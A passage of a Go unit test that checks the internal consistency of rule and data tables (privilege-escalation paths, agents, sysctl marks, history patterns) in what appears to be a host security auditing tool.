	files, _ := filepath.Glob("*.go")
	for _, f := range files {
		if strings.HasSuffix(f, "_test.go") {
			continue
		}
		b, _ := os.ReadFile(f)
		src.Write(b)
	}
	for id, r := range p.rules {
		if !strings.Contains(src.String(), `"`+id+`"`) {
			t.Errorf("rule %s is emitted by no check", id)
		}
		if techniqueName(r.Technique) == "" || strings.Contains(r.Title, ";") {
			t.Errorf("rule %s: technique %q title %q", id, r.Technique, r.Title)
		}
	}
	for k := range p.paths {
		c, role, _ := strings.Cut(k, ";")
		if !strings.Contains(src.String(), `"`+c+`", "`+role+`"`) && !strings.Contains(src.String(), `"`+k+`"`) {
			t.Errorf("privesc-paths.txt role %s is read by no check", k)
		}
	}
	if len(p.agents) < 6 || len(p.marks) < 2 || len(p.histRe) < 3 {
		t.Errorf("data: %d agents, %d sysctl marks, %d history patterns", len(p.agents), len(p.marks), len(p.histRe))
	}
	for _, a := range p.agents {
		if len(a.Binaries) == 0 || len(a.Remnants) == 0 {
			t.Errorf("agent %s needs binaries and remnants", a.Name)
		}
	}
	_ = check.Clean
}
